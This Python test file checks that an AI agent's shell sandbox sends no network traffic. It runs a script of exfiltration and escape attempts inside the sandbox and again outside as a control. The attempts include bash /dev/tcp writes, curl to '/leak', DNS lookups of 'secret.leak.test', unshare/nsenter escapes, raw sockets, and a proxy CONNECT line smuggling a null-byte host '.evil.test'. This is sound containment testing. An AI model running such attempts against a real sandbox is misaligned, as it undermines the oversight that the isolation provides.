# SPDX-License-Identifier: MIT
"""S23: what a command in the sandbox can send. Without hosts nothing at all, DNS included; with hosts only to those, through the proxy.
Judged by traps that count what arrives, and by a control that runs the same attempts outside.
"""
import ctypes
import json
import os
import shutil
import socket
import subprocess
import threading

from harness import Skip, case, contains, equal, expect, is_root, wait_until
from http_test import Site

# A host of this machine is allowed by its name and port only.
POLICY = "tools:\n  allowed:\n    - shell.*\n    - tool: shell.exec\n      domains: [\"{host}\"]\n"

# Runs inside and, as the control, outside. Prints one JSON object: what seemed to work, and the interfaces it saw.
ATTEMPTS = r"""
import ctypes, json, os, socket, struct, subprocess, sys
targets = json.loads(sys.argv[1])
worked = []
def attempt(name, action):
    try:
        action()
        worked.append(name)
    except Exception as error:
        pass
def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.5); s.connect((host, port)); s.sendall(b"GET /leak HTTP/1.0\r\n\r\n"); s.recv(1)
def udp(host, port, family=socket.AF_INET):
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04leak\x04test\x00\x00\x01\x00\x01"
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5); s.sendto(question, (host, port)); s.recv(1)
def unix(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(0.5); s.connect(name); s.sendall(b"GET /api/v1/status HTTP/1.1\r\nHost: a\r\n\r\n")
        if not s.recv(1): raise OSError("nothing came back")
def unix_datagram(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s: s.sendto(b"leak", name)
def raw(kind):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, kind) as s: s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (targets["hosts"][0], 0))
def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s: s.bind(("lo", 0)); s.send(b"\0" * 64)
def vsock():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s: s.settimeout(0.5); s.connect((2, 1))
for host in targets["hosts"]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    attempt(f"tcp {host}", lambda: tcp(host, targets["port"], family))
    attempt(f"udp {host}", lambda: udp(host, targets["udp"], family))
for form in ("127.1", "2130706433", "0x7f000001", "0"):
    attempt(f"tcp {form}", lambda: tcp(form, targets["port"]))
attempt("abstract", lambda: unix("\0" + targets["abstract"]))
attempt("abstract datagram", lambda: unix_datagram("\0" + targets["abstract_datagram"]))
for path in targets["sockets"]:
    attempt(f"unix {path}", lambda: unix(path))
attempt("raw icmp", lambda: raw(1)); attempt("raw tcp", lambda: raw(6)); attempt("packet", packet); attempt("vsock", vsock)
attempt("resolve", lambda: socket.getaddrinfo("secret.leak.test", 80))
for command in (["getent", "hosts", "secret.leak.test"], ["curl", "-fsm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
                ["bash", "-c", "exec 3<>/dev/tcp/%s/%d; echo leak >&3" % (targets["hosts"][0], targets["port"])],
                ["bash", "-c", "echo leak > /dev/udp/%s/%d" % (targets["hosts"][0], targets["udp"])],
                ["unshare", "-rn", "curl", "-fsm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])],
                ["nsenter", "-t", "1", "-n", "curl", "-fsm1", "http://%s:%d/leak" % (targets["hosts"][0], targets["port"])]):
    attempt(" ".join(command), lambda: subprocess.run(command, timeout=3, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
interfaces = []
attempt("interfaces", lambda: interfaces.extend(name for _, name in socket.if_nameindex()))
print("RESULT" + json.dumps({"worked": worked, "interfaces": interfaces}))
"""


class Traps:
    """Every way to be reached on this machine, each with a counter."""

    def __init__(self):
        self.hits, self.open = [], []
        self.tcp = self._listen(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 0), "tcp")
        self.port = self.tcp.getsockname()[1]
        self.udp = self._listen(socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0), "udp")
        self.abstract, self.abstract_datagram = f"pryx-trap-{os.getpid()}-{self.port}", f"pryx-trapd-{os.getpid()}-{self.port}"
        self._listen(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + self.abstract, "abstract")
        self._listen(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + self.abstract_datagram, "abstract datagram")
        self.hosts = ["127.0.0.1", "127.0.0.2", "::1"]
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            try:
                probe.connect(("192.0.2.1", 9))  # sends nothing; tells which address of ours faces the world
                self.hosts.append(probe.getsockname()[0])
            except OSError:
                pass

    def _listen(self, family, kind, address, name):
        trap = socket.socket(family, kind)
        trap.bind(address)
        if kind == socket.SOCK_STREAM:
            trap.listen(64)
        threading.Thread(target=self._count, args=(trap, kind, name), daemon=True).start()
        self.open.append(trap)
        return trap

    def _count(self, trap, kind, name):
        while True:
            try:
                if kind == socket.SOCK_STREAM:
                    peer, _ = trap.accept()
                    self.hits.append(name)
                    peer.sendall(b"HTTP/1.0 200 OK\r\n\r\ngot you")
                    peer.close()
                else:
                    _, peer = trap.recvfrom(2048)
                    self.hits.append(name)
                    if peer:
                        trap.sendto(b"x", peer)
            except OSError:
                return

    def targets(self, sockets=()):
        return json.dumps({"hosts": self.hosts, "port": self.port, "udp": self.udp.getsockname()[1], "abstract": self.abstract,
                           "abstract_datagram": self.abstract_datagram, "sockets": list(sockets)})

    def close(self):
        for trap in self.open:
            trap.close()


def shell(lab, files, host="localhost"):
    daemon = lab.daemon()
    model, api = lab.model(daemon), daemon.api()
    lab.write_config(daemon, "policy.yaml", POLICY.format(host=host))
    wait_until(lambda: api.get("/policy")["in_force"] == "file", 10, "the policy is in force")
    work = lab.workspace(files)

    def run(name, limit=60, **arguments):
        model.script[name] = [[("call", "shell.exec", arguments)], ["done"]]
        session = api.session(workspace=str(work))
        turn = api.wait_turn(api.send(session, name), limit)
        step = [s for s in turn["steps"] if s["kind"] == "tool"][-1]
        text = [m for m in api.transcript(session) if m["role"] == "tool"][-1]["parts"][0]["text"]
        equal(step["state"], "done", f"the step of {name} ({text[:800]})")
        return text
    return daemon, api, run


# A datagram may be sent to nobody: only the traps can tell.
SILENT = ("interfaces", "bash -c echo leak > /dev/udp/")


def result(text):
    expect("RESULT" in text, f"the attempts did not run to their end: {text[-1500:]}")
    return json.JSONDecoder().raw_decode(text[text.index("RESULT") + 6:])[0]


@case(limit=180)
def a_closed_sandbox_sends_nothing(lab):
    traps = Traps()
    daemon, api, run = shell(lab, {"attempts.py": ATTEMPTS})
    targets = traps.targets([str(daemon.home / "run" / "pryx.sock"), "/run/dbus/system_bus_socket", "/run/pryx-egress.sock"])
    found = result(run("try everything", argv=["/usr/bin/python3", "attempts.py", targets]))
    equal(traps.hits, [], "what arrived")
    equal([w for w in found["worked"] if not w.startswith(SILENT)], [], "attempts that seemed to work")
    expect(set(found["interfaces"]) <= {"lo"}, f"interfaces inside: {found['interfaces']}")
    equal(api.get("/egress")["items"], [], "the egress list")
    # The control: the same attempts outside reach the traps of every kind.
    outside = subprocess.run(["/usr/bin/python3", "-c", ATTEMPTS, targets], capture_output=True, text=True, timeout=120)
    result(outside.stdout)
    equal(sorted(set(traps.hits)), ["abstract", "abstract datagram", "tcp", "udp"], "traps that the control reached")
    traps.close()


CLONE_NEWNS, CLONE_NEWNET, MS_BIND, MS_PRIVATE, MS_REC, ETH_P_ALL, PACKET_OUTGOING = 0x20000, 0x40000000, 0x1000, 1 << 18, 0x4000, 3, 4
ELSEWHERE = ["198.51.100.7", "203.0.113.9"]  # reserved for documentation: nobody's


class Wire:
    """A network of this case's own: one cable that leads nowhere, and everything that is put on it, DNS questions to its resolver included."""

    def __init__(self, folder):
        if not is_root():
            raise Skip("only root can make a network and listen to it")
        if not shutil.which("ip"):
            raise Skip("there is no `ip` (iproute2) to make a network with")
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(CLONE_NEWNET | CLONE_NEWNS) != 0 or libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None) != 0:
            raise Skip(f"no network of one's own here: {os.strerror(ctypes.get_errno())}")
        if not self._lay():
            raise Skip("this kernel has no virtual cable (veth)")
        resolver = folder / "resolv.conf"
        resolver.write_text("nameserver 192.0.2.53\noptions timeout:1 attempts:1\n")
        resolver.chmod(0o644)
        if libc.mount(str(resolver).encode(), os.path.realpath("/etc/resolv.conf").encode(), None, MS_BIND, None) != 0:
            raise Skip(f"the resolver cannot be replaced: {os.strerror(ctypes.get_errno())}")
        self.packets = []
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.socket.bind(("cable", 0))
        threading.Thread(target=self._listen, daemon=True).start()

    @staticmethod
    def _lay():
        commands = ["link add cable type veth peer name end", "link set lo up", "link set end up", "link set cable arp off", "addr add 192.0.2.2/24 dev cable",
                    "link set cable up", "route add default via 192.0.2.1"]
        return all(subprocess.run(["ip", *c.split()], capture_output=True, check=False).returncode == 0 for c in commands)

    def _listen(self):
        while True:
            try:
                packet, (_, _, direction, *_) = self.socket.recvfrom(65536)
            except OSError:
                return
            if direction == PACKET_OUTGOING:
                self.packets.append(packet[14:])

    def seen(self):
        """What was sent, as (protocol, to, payload). What the kernel says by itself where IPv6 is spoken (ICMPv6) is nobody's leak."""
        packets = [p for p in self.packets if p]
        return [(p[9], socket.inet_ntoa(p[16:20]), p[(p[0] & 15) * 4:]) for p in packets if p[0] >> 4 == 4] + \
            [(p[6], socket.inet_ntop(socket.AF_INET6, p[24:40]), p[40:]) for p in packets if p[0] >> 4 == 6 and p[6] not in (0, socket.IPPROTO_ICMPV6)]


@case(limit=180)
def a_closed_sandbox_puts_nothing_on_the_wire(lab):
    """S23 by the packets themselves: not what a trap of ours was told, but what any network would have seen, DNS included."""
    wire = Wire(lab.box.root)
    traps = Traps()
    traps.hosts += ELSEWHERE
    daemon, api, run = shell(lab, {"attempts.py": ATTEMPTS})
    targets = traps.targets([str(daemon.home / "run" / "pryx.sock")])
    found = result(run("try everything", limit=120, argv=["/usr/bin/python3", "attempts.py", targets]))
    equal([w for w in found["worked"] if not w.startswith(SILENT)], [], "attempts that seemed to work")
    equal(wire.seen(), [], "what was put on the wire, by the command or by the daemon for it")
    equal(traps.hits, [], "what arrived")
    # The control: the same attempts outside are all on the wire.
    result(subprocess.run(["/usr/bin/python3", "-c", ATTEMPTS, targets], capture_output=True, text=True, timeout=150).stdout)
    sent = wire.seen()
    expect(any(to == "192.0.2.53" and protocol == socket.IPPROTO_UDP and b"\x06secret\x04leak\x04test" in data for protocol, to, data in sent), "the control: no DNS question was seen")
    for host in ELSEWHERE:
        equal({protocol for protocol, to, _ in sent if to == host} >= {socket.IPPROTO_TCP, socket.IPPROTO_UDP}, True, f"the control: what was sent to {host}")
    traps.close()


THROUGH_PROXY = r"""
import json, socket, sys
def ask(line):
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.settimeout(5); s.sendall(line.encode("latin-1") + b"\r\n\r\n")
        out = b""
        while True:
            piece = s.recv(65536)
            if not piece: return out.decode("latin-1")
            out += piece
print("RESULT" + json.dumps([ask(line) for line in json.loads(sys.argv[1])]))
"""


@case(limit=180)
def an_open_sandbox_reaches_its_hosts_and_nothing_else(lab):
    site, traps = Site(), Traps()
    daemon, api, run = shell(lab, {"attempts.py": ATTEMPTS, "ask.py": THROUGH_PROXY}, f"127.0.0.1:{site.port}")
    own = daemon.ready["url"].rsplit(":", 1)[1] if daemon.ready else "1"
    lines = [f"GET {site.url('/page')} HTTP/1.1", f"GET http://127.0.0.1:{traps.port}/ HTTP/1.1", f"CONNECT 127.0.0.1:{traps.port} HTTP/1.1",
             f"CONNECT localhost:{traps.port} HTTP/1.1", f"CONNECT 127.0.0.2:{site.port} HTTP/1.1", f"CONNECT 127.1:{site.port} HTTP/1.1",
             f"CONNECT 127.0.0.1:{site.port}\0.evil.test:{traps.port} HTTP/1.1", "CONNECT secret.leak.test:443 HTTP/1.1", f"CONNECT 127.0.0.1:{own} HTTP/1.1"]
    answers = result(run("ask", argv=["/usr/bin/python3", "ask.py", json.dumps(lines)], hosts=[f"127.0.0.1:{site.port}"]))
    contains(answers[0], "HTTP/1.1 200", "the allowed host")
    contains(answers[0], "<h1>Tides</h1>", "the allowed host's page")
    for line, answer in zip(lines[1:], answers[1:]):
        expect(answer.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), f"{line!r} was answered with {answer[:200]!r}")
    found = result(run("try the rest", argv=["/usr/bin/python3", "attempts.py", traps.targets([str(daemon.home / "run" / "pryx.sock")])], hosts=[f"127.0.0.1:{site.port}"]))
    equal(traps.hits, [], "what arrived elsewhere")
    equal([w for w in found["worked"] if not w.startswith(SILENT)], [], "attempts that seemed to work")
    equal([r[1] for r in site.requests], ["/page"], "what arrived at the allowed host")
    rows = api.get("/egress")["items"]
    equal([r["tool"] for r in rows if r["state"] == "done"], ["shell.exec"], "requests on record that were sent")
    expect(all(r["state"] == "denied" for r in rows if r["port"] != site.port), f"the other rows: {rows}")
    traps.close()
    site.stop()
